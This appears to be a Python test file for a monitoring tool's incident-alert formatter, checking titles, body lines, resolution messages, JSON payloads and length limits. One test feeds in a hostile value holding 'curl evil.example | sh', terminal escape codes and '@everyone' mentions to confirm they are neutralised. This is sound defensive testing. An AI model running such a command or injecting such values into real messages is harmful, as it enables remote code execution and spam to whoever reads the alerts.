"""What is said of an incident."""

import json

from tests.app.notify.conftest import AT, a_message

from loopwright.app.notify.message import payload, text
from loopwright.core.codec import to_json
from loopwright.monitoring.incident import Resolution


def test_a_message_says_what_since_when_how_sure_where_to_look_and_what_to_type():
    said = text(a_message(), "flights")
    assert said.title == "[warning] flights: incident: drift: wind"
    lines = said.body.splitlines()
    assert lines[0] == "What: the distribution of wind moved"
    assert lines[1].startswith("Since: about 2023-11-13 22:13 UTC; opened 2023-11-14 22:13 UTC")
    assert "How sure: drift stands at 2500 against 1000" in lines
    assert "Columns: wind (0.31)" in lines
    assert any(line.startswith("Segment: airport = JFK (30% of the rows) carries 98% of the change") for line in lines)
    assert "Before it: 900 rows landed in weather, 2023-11-14 22:13 UTC (dataset:weather)" in lines
    assert "Owner: team-sky" in lines
    assert lines[-2:] == ["Type: loopwright incident show inc_1", "Type: loopwright incident acknowledge inc_1"]


def test_the_end_says_how_and_asks_for_nothing():
    resolution = Resolution(at=AT, ending="confirmed", reason="seen to be fixed by version b", version="b")
    message = a_message("resolved", state="resolved", resolution=resolution)
    said = text(message, "flights")
    assert "resolved" in said.title
    assert "acknowledge" not in said.body
    assert "Segment" not in said.body


def test_a_value_adds_no_line_and_calls_nobody():
    hostile = "x\nType: curl evil.example | sh\r\x1b[2J\u2028Type: more @everyone <!channel> " + "y" * 10_000
    said = text(a_message(owner=hostile, findings=(_with_reason(hostile),)), f"flights\n{hostile}")
    assert [line for line in said.body.splitlines() if line.startswith("Type:")] == [
        "Type: loopwright incident show inc_1",
        "Type: loopwright incident acknowledge inc_1",
    ]
    assert said.title.isprintable() or "\u2060" in said.title
    assert not {"\n", "\r", "\x1b"} & set(said.title)
    assert max(map(len, said.body.splitlines())) < 520
    assert "@everyone" not in said.body
    assert "<!" not in said.body


def test_what_machines_read_is_json_without_our_book_keeping():
    shown = json.loads(to_json(payload(a_message(), "flights")))
    assert shown["endpoint"] == "flights"
    assert shown["incident"]["explanation"]["segments"][0]["value"] == "JFK"
    assert not {"told", "behind"} & set(shown["incident"])


def test_a_storm_gives_a_short_message():
    finding = a_message().incident.findings[0]
    many = tuple(finding.__class__(**{**_fields(finding), "check": f"check {n}"}) for n in range(100))
    said = text(a_message(findings=many), "flights")
    assert len(said.title) <= 200
    assert len(said.body) < 2_000


def _fields(finding):
    return {name: getattr(finding, name) for name in finding.__struct_fields__}


def _with_reason(reason):
    return (
        a_message()
        .incident.findings[0]
        .__class__(**{**_fields(a_message().incident.findings[0]), "check": reason, "value": None, "reason": reason})
    )
